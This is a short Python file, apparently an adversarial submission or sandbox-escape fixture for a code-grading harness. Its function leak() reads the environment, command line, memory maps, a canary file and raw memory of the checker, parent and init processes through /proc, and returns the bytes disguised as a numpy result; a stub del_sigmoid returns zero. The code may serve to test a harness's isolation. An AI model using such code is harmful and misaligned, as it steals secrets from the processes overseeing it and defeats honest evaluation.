"""Reads the checker's memory, command line, environment and open files through /proc."""
# ruff: noqa - it does what no code should

import os

import numpy as np


def leak(x):
    found = b""
    for process in (str(CHECKER), str(os.getppid()), "1", "self"):
        for name in ("environ", "cmdline", "maps", "cwd/canary.txt", "root" + CANARY):
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    found += file.read()
            except OSError:
                pass
        try:
            with open(f"/proc/{process}/mem", "r+b") as file:
                file.seek(4096)
                found += file.read(100)
        except OSError:
            pass
    return np.frombuffer(found + b"-", np.uint8)


def del_sigmoid(h):
    return 0 * h
